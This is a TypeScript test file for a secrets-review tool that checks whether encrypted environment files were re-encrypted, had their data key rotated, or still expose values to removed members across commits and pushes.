/**
 * `buildReview` on in-memory states (no git, no disk): value changes, a re-encryption under the
 * same data key (a plain sops edit) told from a rotation, and removals without rotation.
 * Keys are made in memory for the test only.
 */
import { generateKeyPairSync } from "node:crypto";
import { describe, expect, it } from "vitest";
import { bech32Encode } from "../../../sops/src/age-native.js";
import { edwardsToMontgomery } from "../../../sops/src/ssh.js";
import { parseEnvironmentFile, parseProjectConfig, WorkspaceIndex } from "../index.js";
import { decryptSecrets, encryptSecrets, generateIdentity, reencryptSecrets, rotateDataKey, updateKeys, wrapDataKey } from "@stellar-secrets/sops";
import { rewrapsOf, sameDataKeyProof } from "./data-key.js";
import { buildReview } from "./model.js";
import { EDITOR_SETTINGS_PATHSPECS } from "./editor-settings.js";
import { nameSkeleton } from "./access.js";
import { gateWorkflowChanges } from "./program-findings.js";
import { fingerprint, type EnvironmentReview, type ReviewReport } from "./report.js";
import { localActionsOf } from "./gate.js";
import { emptyState, stateFromFiles, type ReviewState } from "./state.js";

const FILE = "secrets/production.enc.yaml";

function state(label: string, members: Record<string, string>, text: string | undefined): ReviewState {
  const yaml = `version: 1\nenvironments:\n  production:\n    members:\n${Object.entries(members)
    .map(([n, r]) => `      ${n}: ${r}\n`)
    .join("")}`;
  const { config } = parseProjectConfig(yaml, "/p/stellar.yaml");
  if (config === undefined) throw new Error("bad test config");
  const index = new WorkspaceIndex(config);
  if (text !== undefined) index.setEnvironmentFile(parseEnvironmentFile(text, FILE, "production"));
  return { label, commit: undefined, index, diagnostics: [], checkWith: () => [], readText: (rel) => (rel === FILE ? text : undefined) };
}

async function setup(): Promise<{ alice: { identity: string; recipient: string }; bob: { identity: string; recipient: string }; base: string }> {
  const alice = await generateIdentity();
  const bob = await generateIdentity();
  const values = new Map([
    ["stripe_api_key", "s1"],
    ["hubspot_api_token", "h1"],
    ["slack_bot_token", "k1"],
  ]);
  return { alice, bob, base: await encryptSecrets(values, { recipients: [alice.recipient, bob.recipient] }) };
}

describe("buildReview", () => {
  it("fingerprints ENC strings with 8 hex digits of SHA-256", () => {
    expect(fingerprint("ENC[AES256_GCM,data:AA==,iv:BB==,tag:CC==,type:str]")).toMatch(/^[0-9a-f]{8}$/);
    expect(fingerprint("a")).toBe("ca978112");
  });

  it("does not call a head that brings back a retired data key a rotation: dataKeyRestoredFrom names the earlier version (a removed member's old branch resolved --theirs)", async () => {
    const { alice, bob, base: v1 } = await setup();
    const d1 = await decryptSecrets(v1, [alice.identity]);
    // main: bob removed, data key rotated
    const v2 = await rotateDataKey(d1, { recipients: [alice.recipient] });
    // the branch: v1's data key and ciphertext again, bob's stanza cut out (so that it looks like a rotation)
    const back = await updateKeys(await decryptSecrets(v1, [alice.identity]), [alice.recipient]);
    const c1 = "c1".repeat(20);
    const earlierVersions = new Map([[FILE, [{ commit: c1, text: v1 }]]]);
    const report = buildReview(state("a", { alice: alice.recipient }, v2), state("b", { alice: alice.recipient }, back), new Map(), { earlierVersions });
    const e = report.environments[0];
    expect(e?.dataKeyRestoredFrom).toBe(c1);
    expect(report.problems.map((p) => p.kind)).toContain("unrotated-removal");
    // a real rotation names no earlier version
    const v3 = await rotateDataKey(await decryptSecrets(v2, [alice.identity]));
    expect(buildReview(state("a", { alice: alice.recipient }, v2), state("b", { alice: alice.recipient }, v3), new Map(), { earlierVersions }).environments[0]?.dataKeyRestoredFrom).toBeUndefined();
    expect(bob.recipient).not.toBe(alice.recipient);
  });

  it("names a key that no member of either side has by the member an earlier stellar.yaml of the base's history gave it (a member removed before the base)", async () => {
    const { alice, bob, base: v1 } = await setup();
    const d1 = await decryptSecrets(v1, [alice.identity]);
    const onlyAlice = await rotateDataKey(d1, { recipients: [alice.recipient] });
    // the head wraps the data key for bob again (his old branch); stellar.yaml on both sides: alice only
    const withBob = await updateKeys(await decryptSecrets(onlyAlice, [alice.identity]), [alice.recipient, bob.recipient]);
    const earlierProjects = [{ commit: "c1".repeat(20), text: `version: 1\nenvironments:\n  production:\n    members:\n      alice: ${alice.recipient}\n      bob: ${bob.recipient}\n` }];
    const members = { alice: alice.recipient };
    const named = buildReview(state("a", members, onlyAlice), state("b", members, withBob), new Map(), { earlierProjects }).environments[0];
    expect(named?.recipients.gained).toEqual([{ recipient: bob.recipient, formerMember: "bob" }]);
    const unnamed = buildReview(state("a", members, onlyAlice), state("b", members, withBob)).environments[0];
    expect(unnamed?.recipients.gained).toEqual([{ recipient: bob.recipient }]);
  });

  it("tells one value change from a re-encryption under the same key and from a rotation", async () => {
    const { alice, bob, base } = await setup();
    const members = { alice: alice.recipient, bob: bob.recipient };
    const prev = await decryptSecrets(base, [alice.identity]);

    const one = await reencryptSecrets(prev, new Map([...prev.values, ["hubspot_api_token", "h2"]]));
    const r1 = buildReview(state("a", members, base), state("b", members, one)).environments[0];
    expect(r1).toMatchObject({ secrets: [{ name: "hubspot_api_token", change: "changed" }], dataKeyRotated: false, reencrypted: [] });

    // every value re-encrypted, same data key and wrapped keys (what a plain `sops edit` does)
    const stale = { ...prev, values: new Map([...prev.values].map(([k, v]) => [k, `${v}-old`])) };
    const sameKey = await reencryptSecrets(stale, prev.values);
    const r2 = buildReview(state("a", members, base), state("b", members, sameKey)).environments[0];
    expect(r2).toMatchObject({ secrets: [], dataKeyRotated: false, rotationUncertain: false });
    expect(r2?.reencrypted).toEqual(["hubspot_api_token", "slack_bot_token", "stripe_api_key"]);

    const rotated = await rotateDataKey(prev);
    const r3 = buildReview(state("a", members, base), state("b", members, rotated)).environments[0];
    expect(r3).toMatchObject({ secrets: [], dataKeyRotated: true, rotationUncertain: false });
  });

  it("flags a recipient removed without a rotation, also after a same-key re-encryption", async () => {
    const { alice, bob, base } = await setup();
    const prev = await decryptSecrets(base, [alice.identity]);
    const before = state("a", { alice: alice.recipient, bob: bob.recipient }, base);
    const after = { alice: alice.recipient };

    const rewrapped = await updateKeys(prev, [alice.recipient]);
    const r1 = buildReview(before, state("b", after, rewrapped));
    expect(r1.environments[0]?.recipients.lost).toEqual([{ recipient: bob.recipient, member: "bob" }]);
    expect(r1.problems.map((p) => `${p.kind} ${p.environment}`)).toEqual(["unrotated-removal production"]);
    expect(r1.clean).toBe(false);

    const stale = { ...prev, values: new Map([...prev.values].map(([k, v]) => [k, `${v}-old`])) };
    const sameKey = await reencryptSecrets(stale, prev.values, { recipients: [alice.recipient] });
    const r2 = buildReview(before, state("b", after, sameKey));
    expect(r2.environments[0]?.dataKeyRotated).toBe(false);
    expect(r2.problems.map((p) => p.kind)).toEqual(["unrotated-removal"]);

    const rotated = await rotateDataKey(prev, { recipients: [alice.recipient] });
    const r3 = buildReview(before, state("b", after, rotated));
    expect(r3.environments[0]).toMatchObject({ dataKeyRotated: true, members: { lost: [{ name: "bob", recipient: bob.recipient }] } });
    expect(r3.clean).toBe(true);
  });
});

/**
 * The review scenarios that were end-to-end CLI tests (test/cli-review.test.ts), on states
 * built in memory from whole repositories of files (stellar.yaml, a connector, encrypted
 * environment files), loaded by the same code a review of a commit uses (`stateFromFiles`).
 */
describe("buildReview over whole repositories", () => {
  const ROOT = "/repo";
  const STRIPE = "connectors/stripe.yaml";
  const PROD = "secrets/production.enc.yaml";
  const STAGING = "secrets/staging.enc.yaml";
  type Files = Record<string, string | null>;
  type Key = { identity: string; recipient: string };

  const config = (envs: Record<string, Record<string, string>>, rules = ""): string =>
    `version: 1\nenvironments:\n${Object.entries(envs)
      .map(([e, members]) => `  ${e}:\n    members:\n${Object.entries(members).map(([n, r]) => `      ${n}: ${r}\n`).join("")}`)
      .join("")}${rules === "" ? "" : `rules:\n${rules}`}`;
  const at = (label: string, files: Files): ReviewState => stateFromFiles(label, undefined, ROOT, new Map(Object.entries(files)));
  const env = (report: ReviewReport, name: string): EnvironmentReview => {
    const e = report.environments.find((x) => x.environment === name);
    if (e === undefined) throw new Error(`no review of ${name}`);
    return e;
  };
  const sameKeyEdit = async (text: string, identity: string, recipients?: string[]): Promise<string> => {
    const prev = await decryptSecrets(text, [identity]);
    const stale = { ...prev, values: new Map([...prev.values].map(([k, v]) => [k, `${v}-old`])) };
    return reencryptSecrets(stale, prev.values, recipients === undefined ? {} : { recipients });
  };

  /** bob added to production: in stellar.yaml, and the file re-wrapped for alice and bob (same data key, as sops updatekeys does). */
  async function bobJoinsProduction(alice: Key, base: Files): Promise<{ bob: Key; prev: Awaited<ReturnType<typeof decryptSecrets>>; withBob: Files }> {
    const bob = await generateIdentity();
    const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
    const withBob: Files = {
      ...base,
      "stellar.yaml": config({ staging: { alice: alice.recipient }, production: { alice: alice.recipient, bob: bob.recipient } }),
      [PROD]: await updateKeys(prev, [alice.recipient, bob.recipient]),
    };
    return { bob, prev, withBob };
  }

  /** The CLI tests' project: staging and production with alice, stripe in both, hubspot and legacy in production. */
  async function project(): Promise<{ alice: Key; base: Files }> {
    const alice = await generateIdentity();
    const base: Files = {
      "stellar.yaml": config({ staging: { alice: alice.recipient }, production: { alice: alice.recipient } }),
      [STRIPE]: "kind: auth_connector\nname: stripe\ntype: bearer_token\ntoken: { secret: stripe_api_key }\n",
      [STAGING]: await encryptSecrets(new Map([["stripe_api_key", "sk_live_AAAAbbbbCCCC1111"]]), { recipients: [alice.recipient] }),
      [PROD]: await encryptSecrets(
        new Map([
          ["hubspot_api_token", "hs_token_ZZZZyyyy2222"],
          ["legacy_api_token", "legacy_QQQQ4444"],
          ["stripe_api_key", "sk_live_DDDDeeee3333"],
        ]),
        { recipients: [alice.recipient] },
      ),
    };
    return { alice, base };
  }

  it("reports a data-key rotation as one re-encryption, not as a change of every value", async () => {
    const { alice, base } = await project();
    const rotated = await rotateDataKey(await decryptSecrets(base[PROD] as string, [alice.identity]));
    const report = buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: rotated }));
    expect(env(report, "production")).toMatchObject({ dataKeyRotated: true, rotationUncertain: false, secrets: [], reencrypted: ["hubspot_api_token", "legacy_api_token", "stripe_api_key"] });
    expect(report.summary).toMatchObject({ added: 0, changed: 0, removed: 0, reencrypted: 1 });
    expect(report.clean).toBe(true);
  });

  it("never says no value changed when every value was re-encrypted under the same data key", async () => {
    const { alice, base } = await project();
    const report = buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: await sameKeyEdit(base[PROD] as string, alice.identity) }));
    expect(env(report, "production")).toMatchObject({ dataKeyRotated: false, rotationUncertain: false, secrets: [], reencrypted: ["hubspot_api_token", "legacy_api_token", "stripe_api_key"] });
    expect(report.clean).toBe(true);
  });

  it("counts a member whose key changed (stellar.yaml and the file's recipients) as one access change, as it counts a member added", async () => {
    const { alice, base } = await project();
    const { withBob, prev } = await bobJoinsProduction(alice, base);
    const bob2 = await generateIdentity();
    const rekeyed: Files = {
      ...withBob,
      "stellar.yaml": config({ staging: { alice: alice.recipient }, production: { alice: alice.recipient, bob: bob2.recipient } }),
      [PROD]: await rotateDataKey(prev, { recipients: [alice.recipient, bob2.recipient] }),
    };
    const report = buildReview(at("HEAD", withBob), at("working tree", rekeyed));
    expect(env(report, "production").members.keyChanged.map((m) => m.name)).toEqual(["bob"]);
    expect(env(report, "production").recipients.gained.map((r) => r.member)).toEqual(["bob"]);
    expect(report.summary.accessChanges).toBe(1);
    expect(buildReview(at("HEAD", base), at("working tree", withBob)).summary.accessChanges).toBe(1);
  });

  it("names members who gained and lost access; a removal with rotation is clean", async () => {
    const { alice, base } = await project();
    const { bob, prev, withBob } = await bobJoinsProduction(alice, base);
    const added = buildReview(at("HEAD", base), at("working tree", withBob));
    const prod = env(added, "production");
    expect(prod.members.gained).toEqual([{ name: "bob", recipient: bob.recipient }]);
    expect(prod.recipients.gained).toEqual([{ recipient: bob.recipient, member: "bob" }]);
    expect(prod.secrets).toEqual([]);
    expect(prod.dataKeyRotated).toBe(false);
    expect(added.clean).toBe(true);

    // `members rm` rotates the data key for the members who stay
    const removed = buildReview(at("HEAD", withBob), at("working tree", { ...base, [PROD]: await rotateDataKey(prev, { recipients: [alice.recipient] }) }));
    const after = env(removed, "production");
    expect(after.members.lost).toEqual([{ name: "bob", recipient: bob.recipient }]);
    expect(after.recipients.lost).toEqual([{ recipient: bob.recipient, member: "bob" }]);
    expect(after.dataKeyRotated).toBe(true);
    expect(after.problems).toEqual([]);
    expect(removed.clean).toBe(true);
  });

  it("flags a member removed without a data-key rotation; after a rotation the same change is clean", async () => {
    const { alice, base } = await project();
    const { bob, prev, withBob } = await bobJoinsProduction(alice, base);
    // by hand: bob out of stellar.yaml, and the file re-wrapped for alice only (sops updatekeys: same data key)
    const report = buildReview(at("HEAD", withBob), at("working tree", { ...base, [PROD]: await updateKeys(await decryptSecrets(withBob[PROD] as string, [alice.identity]), [alice.recipient]) }));
    const prod = env(report, "production");
    expect(prod.dataKeyRotated).toBe(false);
    expect(prod.members.lost.map((m) => m.name)).toEqual(["bob"]);
    expect(prod.recipients.lost).toEqual([{ recipient: bob.recipient, member: "bob" }]);
    expect(prod.problems.map((p) => p.kind)).toEqual(["unrotated-removal"]);
    expect(prod.problems[0]?.message).toContain("bob was removed from production but the data key was not rotated: bob can still decrypt every value of the file (");
    expect(report.problems.map((p) => `${p.kind} ${p.environment}`)).toEqual(["unrotated-removal production"]);
    expect(report.clean).toBe(false);

    const fixed = buildReview(at("HEAD", withBob), at("working tree", { ...base, [PROD]: await rotateDataKey(prev, { recipients: [alice.recipient] }) }));
    expect(env(fixed, "production").problems).toEqual([]);
    expect(fixed.clean).toBe(true);
  });

  it("flags a removal without rotation in an environment with no values: an unchanged wrapped key proves the same data key", async () => {
    const alice = await generateIdentity();
    const bob = await generateIdentity();
    const file = "secrets/zero.enc.yaml";
    const before = await encryptSecrets(new Map(), { recipients: [alice.recipient, bob.recipient] });
    const base: Files = { "stellar.yaml": config({ zero: { alice: alice.recipient, bob: bob.recipient } }), [file]: before };
    // by hand: bob out of stellar.yaml and his recipient block out of the file; alice's wrapped key untouched
    const lines = before.split("\n");
    const start = lines.findIndex((l) => l.includes(`recipient: ${bob.recipient}`));
    const end = lines.findIndex((l, i) => i > start && l.includes("-----END AGE ENCRYPTED FILE-----"));
    expect(start).toBeGreaterThan(-1);
    lines.splice(start, end - start + 1);
    const head: Files = { "stellar.yaml": config({ zero: { alice: alice.recipient } }), [file]: lines.join("\n") };
    const report = buildReview(at("HEAD~1", base), at("HEAD", head));
    const zero = env(report, "zero");
    expect(zero.recipients.lost).toEqual([{ recipient: bob.recipient, member: "bob" }]);
    expect(zero.dataKeyRotated).toBe(false);
    expect(zero.problems.map((p) => p.kind)).toEqual(["unrotated-removal"]);
    expect(zero.problems[0]?.message).toContain("bob was removed from zero but the data key was not rotated: bob can still decrypt any value later encrypted with this data key");
    expect(zero.problems[0]?.message).toContain("(alice's wrapped data key is unchanged: the data key is the same)");
    expect(report.problems.map((p) => `${p.kind} ${p.environment}`)).toContain("unrotated-removal zero");
    expect(report.clean).toBe(false);

    // rotating the data key re-wraps it for alice: clean
    const rotated = await rotateDataKey(await decryptSecrets(head[file] as string, [alice.identity]), { recipients: [alice.recipient] });
    expect(env(buildReview(at("HEAD~1", base), at("working tree", { ...head, [file]: rotated })), "zero").problems).toEqual([]);
  });

  it("says so when one kept value cannot tell a rotation from a change plus a re-wrap", async () => {
    const { alice, base } = await project();
    const bob = await generateIdentity();
    const prev = await decryptSecrets(base[STAGING] as string, [alice.identity]);
    const withBob: Files = {
      ...base,
      "stellar.yaml": config({ staging: { alice: alice.recipient, bob: bob.recipient }, production: { alice: alice.recipient } }),
      [STAGING]: await updateKeys(prev, [alice.recipient, bob.recipient]),
    };
    // members rm rotates: every stanza re-wrapped and the one value re-encrypted
    const report = buildReview(at("HEAD", withBob), at("working tree", { ...base, [STAGING]: await rotateDataKey(prev, { recipients: [alice.recipient] }) }));
    const staging = env(report, "staging");
    expect(staging).toMatchObject({ dataKeyRotated: true, rotationUncertain: true, reencrypted: ["stripe_api_key"], secrets: [] });
    expect(staging.problems.map((p) => p.kind)).toEqual(["unrotated-removal"]);
    expect(staging.problems[0]?.message).toContain("bob was removed from staging, and with only one value kept a data-key rotation cannot be told from a changed value without a key");
    expect(report.clean).toBe(false);
  });

  it("with no value kept (an empty base, values first set after members rm) a rotation is uncertain, not a proven missing one", async () => {
    const alice = await generateIdentity();
    const bob = await generateIdentity();
    const file = "secrets/zero.enc.yaml";
    const before = await encryptSecrets(new Map(), { recipients: [alice.recipient, bob.recipient] });
    const base: Files = { "stellar.yaml": config({ zero: { alice: alice.recipient, bob: bob.recipient } }), [file]: before };
    // members rm bob (a rotation: every stanza wrapped anew), then two values set under the new data key
    const rotated = await decryptSecrets(await rotateDataKey(await decryptSecrets(before, [alice.identity]), { recipients: [alice.recipient] }), [alice.identity]);
    const withValues = await reencryptSecrets(rotated, new Map([["stripe_api_key", "v1"], ["hubspot_api_token", "v2"]]));
    const report = buildReview(at("HEAD~1", base), at("HEAD", { "stellar.yaml": config({ zero: { alice: alice.recipient } }), [file]: withValues }));
    const zero = env(report, "zero");
    expect(zero).toMatchObject({ dataKeyRotated: true, rotationUncertain: true, reencrypted: [] });
    expect(zero.secrets.map((x) => `${x.change} ${x.name}`)).toEqual(["added hubspot_api_token", "added stripe_api_key"]);
    expect(zero.problems.map((p) => p.kind)).toEqual(["unrotated-removal"]);
    expect(zero.problems[0]?.message).toContain("bob was removed from zero, and with no value kept (every one added or changed) a data-key rotation cannot be told from a changed value without a key");
    // the same values under the base's data key (bob's stanza cut out, alice's untouched): proven, as before
    const sameKey = await reencryptSecrets(await decryptSecrets(before, [alice.identity]), new Map([["stripe_api_key", "v1"]]));
    const unrotated = await updateKeys(await decryptSecrets(sameKey, [alice.identity]), [alice.recipient]);
    const proven = env(buildReview(at("HEAD~1", base), at("HEAD", { "stellar.yaml": config({ zero: { alice: alice.recipient } }), [file]: unrotated })), "zero");
    expect(proven.problems[0]?.message).toContain("bob was removed from zero but the data key was not rotated");
  });

  it("flags an environment file that uses another environment's data key (its ciphertext copied), which that environment's members read; a fresh file or a renamed environment is clean", async () => {
    const { alice, base } = await project();
    const staging = await decryptSecrets(base[STAGING] as string, [alice.identity]);
    // a staging member writes production under staging's data key: stripe_api_key's ciphertext is staging's
    const copied = await reencryptSecrets(staging, new Map([...staging.values, ["hubspot_api_token", "hs_token_chosen"]]), { recipients: [alice.recipient] });
    const report = buildReview(at("base", base), at("head", { ...base, [PROD]: copied }));
    expect(report.problems.map((p) => [p.kind, p.environment, p.file])).toEqual([["non-member-recipient", "production", PROD]]);
    expect(report.problems[0]?.message).toContain("shares its data key with staging's file secrets/staging.enc.yaml in the head (the encrypted value of stripe_api_key is byte-for-byte the same)");
    // the whole staging file copied over production
    expect(buildReview(at("base", base), at("head", { ...base, [PROD]: base[STAGING] as string })).problems.map((p) => p.kind)).toEqual(["non-member-recipient"]);
    // a rotation of production (a data key of its own) is clean
    const rotated = await rotateDataKey(await decryptSecrets(base[PROD] as string, [alice.identity]));
    expect(buildReview(at("base", base), at("head", { ...base, [PROD]: rotated })).problems).toEqual([]);
    // production renamed to prod (its file moved): no environment reads under the old key any more
    const renamed: Files = { ...base, "stellar.yaml": config({ staging: { alice: alice.recipient }, prod: { alice: alice.recipient } }), "secrets/prod.enc.yaml": base[PROD] as string };
    delete renamed[PROD];
    expect(buildReview(at("base", base), at("head", renamed)).problems.map((p) => p.kind)).toEqual([]);
  });

  it("flags a data key wrapped for someone in a commit of an earlier push (--previous-head) that the rewritten branch no longer holds: pushed, the head still uses that data key", async () => {
    const { alice, base } = await project();
    const { bob, withBob } = await bobJoinsProduction(alice, base);
    const e1 = "e1".repeat(20);
    // the first push: `members add bob`; then the branch is reset and force-pushed with the base's file
    const report = buildReview(at("base", base), at("head", base), new Map(), { earlierPushVersions: [{ commit: e1, path: PROD, text: withBob[PROD] as string }] });
    expect(report.problems.map((p) => [p.kind, p.environment, p.file, p.commit])).toEqual([["unrotated-removal", "production", PROD, e1]]);
    expect(report.problems[0]?.message).toContain(`its version at commit ${e1.slice(0, 10)} of an earlier push of this change (given with --previous-head; the range no longer holds it: the branch was rewritten, but the commit was pushed) also wrapped for ${bob.recipient} (`);
    expect(report.problems[0]?.message).toContain("stellar-secrets rotate-key --env production");
    expect(report.clean).toBe(false);
  });

  it("flags a data key wrapped for someone in one commit of the change and taken out in a later one (a revert): the end state is the base's byte for byte", async () => {
    const { alice, base } = await project();
    const { bob, prev, withBob } = await bobJoinsProduction(alice, base);
    const c1 = "c1".repeat(20);
    // commit 1: `members add bob` (the same data key wrapped for bob); commit 2: `git revert` of it
    const report = buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: withBob[PROD] as string }] });
    expect(report.problems.map((p) => [p.kind, p.environment, p.file, p.commit])).toEqual([["unrotated-removal", "production", PROD, c1]]);
    expect(report.problems[0]?.message).toContain(`also wrapped for ${bob.recipient} (`);
    expect(report.problems[0]?.message).toContain("c1c1c1c1c1");
    expect(report.problems[0]?.message).toContain("stellar-secrets rotate-key --env production");
    expect(env(report, "production").problems).toHaveLength(1);
    expect(report.clean).toBe(false);
    // the same by hand: bob's stanza cut out again in commit 2, under any label
    const relabelled = (withBob[PROD] as string).replaceAll(bob.recipient, alice.recipient.replace(/.$/, "q"));
    expect(buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: [{ commit: c1, path: "secrets/tmp.enc.yaml", text: relabelled }] }).problems.map((p) => p.kind)).toEqual(["unrotated-removal"]);
    // without the range's versions it looked like no change at all
    expect(buildReview(at("base", base), at("head", base)).problems).toEqual([]);
    // a file outside the secrets folder (a test fixture's) is no environment's
    expect(buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: [{ commit: c1, path: `test/fixtures/x/${PROD}`, text: withBob[PROD] as string }] }).problems).toEqual([]);
    // a MAC pasted into another file of the range proves no data key (that is stale-mac): not this problem
    const mac = /^ {4}mac: .*$/m;
    const pasted = (base[STAGING] as string).replace(mac, ((base[PROD] as string).match(mac) as RegExpMatchArray)[0]);
    expect(buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: [{ commit: c1, path: STAGING, text: pasted }] }).problems).toEqual([]);
    expect(env(report, "production").exposedDuring).toEqual([{ recipient: bob.recipient, commit: c1, secrets: ["hubspot_api_token", "legacy_api_token", "stripe_api_key"] }]);
    // the commit's stellar.yaml named bob's key: the finding names him (neither side does)
    const c0 = "c0".repeat(20);
    const named = (versions: { commit: string; path: string; text: string }[]) => env(buildReview(at("base", base), at("head", base), new Map(), { rangeVersions: versions }), "production").exposedDuring;
    expect(named([{ commit: c1, path: "stellar.yaml", text: withBob["stellar.yaml"] as string }, { commit: c1, path: PROD, text: withBob[PROD] as string }])).toEqual([
      { recipient: bob.recipient, member: "bob", commit: c1, secrets: ["hubspot_api_token", "legacy_api_token", "stripe_api_key"] },
    ]);
    // stellar.yaml changed in an earlier commit of the range than the file: still named
    expect(named([{ commit: c0, path: "stellar.yaml", text: withBob["stellar.yaml"] as string }, { commit: c1, path: PROD, text: withBob[PROD] as string }])?.[0]?.member).toBe("bob");
    // a stellar.yaml outside the project's root (a fixture's) names no one
    expect(named([{ commit: c1, path: "test/stellar.yaml", text: withBob["stellar.yaml"] as string }, { commit: c1, path: PROD, text: withBob[PROD] as string }])?.[0]?.member).toBeUndefined();
    // `members rm bob` in commit 2 rotates the data key: bob knows the old values (no problem, but said), not the head's key
    const rotated = await rotateDataKey(prev, { recipients: [alice.recipient] });
    const inside = buildReview(at("base", base), at("head", { ...base, [PROD]: rotated }), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: withBob[PROD] as string }] });
    expect(inside.problems).toEqual([]);
    expect(env(inside, "production").exposedDuring).toMatchObject([{ recipient: bob.recipient, commit: c1 }]);
    expect(inside.summary.accessChanges).toBe(1);
    expect(env(buildReview(at("base", base), at("head", { ...base, [PROD]: rotated })), "production").exposedDuring).toBeUndefined();
    // bob kept: an access change, no problem; a value set after `members add` keeps every stanza
    const d = await decryptSecrets(withBob[PROD] as string, [alice.identity]);
    const set = await reencryptSecrets(d, new Map([...d.values, ["stripe_api_key", "sk_new"]]));
    expect(buildReview(at("base", base), at("head", { ...withBob, [PROD]: set }), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: withBob[PROD] as string }] }).problems).toEqual([]);
  });

  it("flags a value a commit of the change set while a key that is no member at the head could decrypt it (a stale branch merged after a removal): unrotated-removal naming that commit; values the base has unchanged are not its subject", async () => {
    const { alice, base } = await project();
    const { bob, withBob } = await bobJoinsProduction(alice, base);
    const c1 = "c1".repeat(20);
    // commit 1 (on a branch where bob was still a recipient) sets openai_api_key; the head is under a new data key for alice alone
    const d = await decryptSecrets(withBob[PROD] as string, [alice.identity]);
    const exposed = await reencryptSecrets(d, new Map([...d.values, ["openai_api_key", "sk_exposed"]]));
    const head = await rotateDataKey(await decryptSecrets(exposed, [alice.identity]), { recipients: [alice.recipient] });
    const report = buildReview(at("base", base), at("head", { ...base, [PROD]: head }), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: exposed }] });
    expect(report.problems.map((p) => [p.kind, p.environment, p.file, p.commit])).toEqual([["unrotated-removal", "production", PROD, c1]]);
    expect(report.problems[0]?.message).toContain(`${bob.recipient} is no member of production at the head, but the version of ${PROD} that commit c1c1c1c1c1 of this change wrote was wrapped for that key too, and held openai_api_key, which this change adds or changes`);
    expect(env(report, "production").problems).toHaveLength(1);
    // the same access with no value set by the change (members add, then members rm inside it): said, no problem
    const rotated = await rotateDataKey(await decryptSecrets(base[PROD] as string, [alice.identity]), { recipients: [alice.recipient] });
    const inside = buildReview(at("base", base), at("head", { ...base, [PROD]: rotated }), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: withBob[PROD] as string }] });
    expect(inside.problems).toEqual([]);
    // bob a member at the head: he reads the head anyway, nothing more to say
    const bobStays = await rotateDataKey(await decryptSecrets(exposed, [alice.identity]), { recipients: [alice.recipient, bob.recipient] });
    expect(buildReview(at("base", base), at("head", { ...withBob, [PROD]: bobStays }), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: exposed }] }).problems.map((p) => p.kind)).not.toContain("unrotated-removal");
    // the head still under c1's data key with bob's stanza cut out (an evil merge that kept the branch's file): the key-left-behind finding says it, once
    const cut = await updateKeys(await decryptSecrets(exposed, [alice.identity]), [alice.recipient]);
    const kept = buildReview(at("base", base), at("head", { ...base, [PROD]: cut }), new Map(), { rangeVersions: [{ commit: c1, path: PROD, text: exposed }] });
    expect(kept.problems.map((p) => [p.kind, p.commit])).toEqual([["unrotated-removal", c1]]);
    expect(kept.problems[0]?.message).toContain("uses the data key that its version at commit c1c1c1c1c1 of this change also wrapped for");
  });

  it("a member added on two branches long before: the change's commits carry the wrap the base's history already had, which is no exposure of this change", async () => {
    const { alice, base } = await project();
    const carol = await generateIdentity();
    const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
    // members add carol on two branches, under the same data key: two wraps for her
    const wrapA = await updateKeys(prev, [alice.recipient, carol.recipient]);
    const wrapB = await updateKeys(prev, [alice.recipient, carol.recipient]);
    const members = config({ staging: { alice: alice.recipient }, production: { alice: alice.recipient, carol: carol.recipient } });
    // the base (main) merged both and kept wrap B; the branch's commit c1 set a value on wrap A; the head is the base's file with that value
    const c1 = "c1".repeat(20);
    const onA = await reencryptSecrets(await decryptSecrets(wrapA, [alice.identity]), new Map([...prev.values, ["openai_api_key", "sk_new"]]));
    const head = await reencryptSecrets(await decryptSecrets(wrapB, [alice.identity]), new Map([...prev.values, ["openai_api_key", "sk_new"]]));
    const baseFiles: Files = { ...base, "stellar.yaml": members, [PROD]: wrapB };
    const rangeVersions = [{ commit: c1, path: PROD, text: onA }];
    // wrap A is in the base's history (the commit that added carol on the other branch, an ancestor of the base)
    const earlierVersions = new Map([[PROD, [{ commit: "e1".repeat(20), text: wrapA }]]]);
    const report = buildReview(at("base", baseFiles), at("head", { ...baseFiles, [PROD]: head }), new Map(), { rangeVersions, earlierVersions });
    expect(report.problems).toEqual([]);
    // a wrap nowhere in the base's history is still one the head's data key was given out with
    const unseen = buildReview(at("base", baseFiles), at("head", { ...baseFiles, [PROD]: head }), new Map(), { rangeVersions, earlierVersions: new Map() });
    expect(unseen.problems.map((p) => [p.kind, p.commit])).toEqual([["unrotated-removal", c1]]);
    expect(unseen.problems[0]?.message).toContain("uses the data key that its version at commit c1c1c1c1c1 of this change also wrapped for");
  });

  it("flags an environment renamed with a member's stanza cut out of its moved file, or a stanza replaced: the base's file of the old name shares the data key", async () => {
    const { alice, base } = await project();
    const { bob, withBob } = await bobJoinsProduction(alice, base);
    const bobStanza = new RegExp(` {8}- recipient: ${bob.recipient}\\n {10}enc: \\|\\n(?: {12}.*\\n)+`);
    const cut = (withBob[PROD] as string).replace(bobStanza, "");
    expect(cut).not.toBe(withBob[PROD]);
    const renamedTo = (text: string): Files => {
      const files: Files = { ...withBob, "stellar.yaml": config({ staging: { alice: alice.recipient }, prod: { alice: alice.recipient } }), "secrets/prod.enc.yaml": text };
      delete files[PROD];
      return files;
    };
    const report = buildReview(at("base", withBob), at("head", renamedTo(cut)));
    expect(report.problems.map((p) => [p.kind, p.environment, p.file])).toEqual([["unrotated-removal", "prod", "secrets/prod.enc.yaml"]]);
    expect(report.problems[0]?.message).toContain(`the base's file secrets/production.enc.yaml (of an environment the head no longer has) also wrapped for bob (${bob.recipient})`);
    // a stanza of the old file replaced under its label (wrapped for someone else): the old wrapping is gone
    const eve = await generateIdentity();
    const d = await decryptSecrets(withBob[PROD] as string, [alice.identity]);
    const forEve = (await updateKeys(d, [alice.recipient, eve.recipient])).replaceAll(eve.recipient, bob.recipient);
    const renamedBob = renamedTo(forEve);
